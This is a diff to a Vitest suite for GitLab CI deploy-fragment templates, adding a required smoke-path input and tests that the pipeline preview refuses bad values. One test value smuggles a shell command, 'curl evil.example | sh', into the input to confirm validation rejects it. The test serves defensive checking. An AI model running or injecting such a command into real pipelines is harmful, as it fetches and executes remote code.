@@ -4,7 +4,7 @@ import { createRequire } from 'node:module';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
-import { promisify } from 'node:util';
+import { promisify, stripVTControlCharacters } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parse, parseAllDocuments } from 'yaml';
 import { options } from './settings.ts';
@@ -20,6 +20,8 @@ const root = fileURLToPath(new URL('../../', import.meta.url));
 const gitlabCiLocal = join(dirname(createRequire(import.meta.url).resolve('gitlab-ci-local/package.json')), 'dist/index.js');
 const targets = ['droplet', 'ansible', 'cloud-run', 'app-engine'] as const;
 const fragment = (name: string) => `templates/ci/${name}.yml`;
+/** What the child pipeline passes each deploy fragment from the service's metadata.service.smoke. */
+const smokePath = (project: string) => `/api/${project}/8?check=smoke`;
 
 interface Job {
   stage: string;
@@ -35,18 +37,17 @@ interface Job {
   artifacts?: { when?: string; reports: { dotenv: string } };
 }
 
-let sandbox: string;
+const sandboxes: string[] = [];
 let jobs: Record<string, Job>;
 
-/** A git repository holding the fragments and a pipeline that includes each of them, as the child pipeline would. */
-beforeAll(async () => {
-  sandbox = mkdtempSync(join(tmpdir(), 'deploy-fragments-'));
+/**
+ * `gitlab-ci-local --preview` of a pipeline in a git repository of its own holding the fragments, as the child
+ * pipeline includes them: the expanded jobs on stdout, or GitLab's refusal.
+ */
+async function preview(pipeline: object): Promise<{ ok: boolean; output: string }> {
+  const sandbox = mkdtempSync(join(tmpdir(), 'deploy-fragments-'));
+  sandboxes.push(sandbox);
   cpSync(join(root, 'templates/ci'), join(sandbox, 'templates/ci'), { recursive: true });
-  const pipeline = {
-    stages: ['release', 'deploy', 'smoke'],
-    ...Object.fromEntries(targets.map((target) => [`app-${target}:release`, { stage: 'release', script: ['echo released'] }])),
-    include: targets.map((target) => ({ local: fragment(`deploy-${target}`), inputs: { project: `app-${target}` } })),
-  };
   writeFileSync(join(sandbox, '.gitlab-ci.yml'), JSON.stringify(pipeline));
   const git = (...args: string[]) => run('git', ['-c', 'user.name=Fragments Test', '-c', 'user.email=fragments@example.com', ...args], { cwd: sandbox });
   await git('init', '--quiet', '--initial-branch=main');
@@ -55,13 +56,44 @@ beforeAll(async () => {
   await git('remote', 'add', 'origin', 'https://gitlab.example.com/acme/fastify-services.git');
   await git('update-ref', 'refs/remotes/origin/main', 'HEAD');
   await git('symbolic-ref', 'refs/remotes/origin/HEAD', 'refs/remotes/origin/main');
-  const { stdout, stderr } = await run(process.execPath, [gitlabCiLocal, '--preview', '--json-schema-validation'], { cwd: sandbox });
-  expect(stderr + stdout).toContain('json schema validated');
-  jobs = parse(stdout.slice(stdout.indexOf('---'))) as Record<string, Job>;
+  try {
+    const { stdout, stderr } = await run(process.execPath, [gitlabCiLocal, '--preview', '--json-schema-validation'], { cwd: sandbox });
+    return { ok: true, output: stderr + stdout };
+  } catch (error) {
+    // Its refusal is in color when the suite runs under Nx (FORCE_COLOR).
+    const { stdout = '', stderr = '' } = error as { stdout?: string; stderr?: string };
+    return { ok: false, output: stripVTControlCharacters(stderr + stdout) };
+  }
+}
+
+/** Every deploy fragment included once, with the inputs the child pipeline gives it. */
+const deployPipeline = (inputs: (project: string) => Record<string, string>) => ({
+  stages: ['release', 'deploy', 'smoke'],
+  ...Object.fromEntries(targets.map((target) => [`app-${target}:release`, { stage: 'release', script: ['echo released'] }])),
+  include: targets.map((target) => ({ local: fragment(`deploy-${target}`), inputs: inputs(`app-${target}`) })),
+});
+
+beforeAll(async () => {
+  const { ok, output } = await preview(deployPipeline((project) => ({ project, 'smoke-path': smokePath(project) })));
+  expect(output, output).toContain('json schema validated');
+  expect(ok).toBe(true);
+  jobs = parse(output.slice(output.indexOf('---'))) as Record<string, Job>;
 }, 60_000);
 
 afterAll(() => {
-  rmSync(sandbox, { recursive: true, force: true });
+  for (const sandbox of sandboxes) rmSync(sandbox, { recursive: true, force: true });
+});
+
+describe('the smoke-path input', () => {
+  it.each([
+    [{}, '`smoke-path` input: required value has not been provided'],
+    [{ 'smoke-path': '/api/ping"; curl evil.example | sh; "' }, '`smoke-path` input: `/api/ping"; curl evil.example | sh; "` does not match required regex'],
+    [{ 'smoke-path': 'api/ping' }, '`smoke-path` input: `api/ping` does not match required regex'],
+  ])('is required, and a path no shell would read: %j is refused', async (smoke, message) => {
+    const { ok, output } = await preview(deployPipeline((project) => ({ project, ...smoke })));
+    expect(output).toContain(message);
+    expect(ok).toBe(false);
+  }, 60_000);
 });
 
 describe.each(targets)('templates/ci/deploy-%s.yml', (target) => {
@@ -75,7 +107,7 @@ describe.each(targets)('templates/ci/deploy-%s.yml', (target) => {
     const declared = Object.keys((header as { spec: { inputs: Record<string, unknown> } }).spec.inputs);
     const used = new Set([...JSON.stringify(body).matchAll(/\$\[\[ inputs\.([a-z-]+) \]\]/g)].map((match) => match[1]));
     expect(declared.toSorted()).toEqual([...used].toSorted());
-    expect(declared).toEqual(expect.arrayContaining(['project', 'image', 'environment', 'when', 'deploy-stage', 'smoke-stage', 'node-image']));
+    expect(declared).toEqual(expect.arrayContaining(['project', 'smoke-path', 'image', 'environment', 'when', 'deploy-stage', 'smoke-stage', 'node-image']));
   });
 
   it('deploys after the release into a GitLab environment with a URL, one deploy of it at a time', () => {
@@ -92,8 +124,12 @@ describe.each(targets)('templates/ci/deploy-%s.yml', (target) => {
     expect(deploy().rules).toEqual([{ if: '$CI_COMMIT_TAG || $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH', when: 'manual', allow_failure: true }]);
   });
 
-  it('is followed by a smoke test of /api/ping on the deployed URL', () => {
-    expect(smoke()).toMatchObject({ stage: 'smoke', needs: [{ job: `${project}:deploy:production` }], script: ['node tools/deploy/smoke.ts "$DEPLOY_URL"'] });
+  it("is followed by a smoke test of the service's recorded smoke path on the deployed URL", () => {
+    expect(smoke()).toMatchObject({
+      stage: 'smoke',
+      needs: [{ job: `${project}:deploy:production` }],
+      script: [`node tools/deploy/smoke.ts "$DEPLOY_URL" --path "${smokePath(project)}"`],
+    });
   });
 
   it('keeps secrets in CI/CD variables: no credential is written into the fragment', () => {
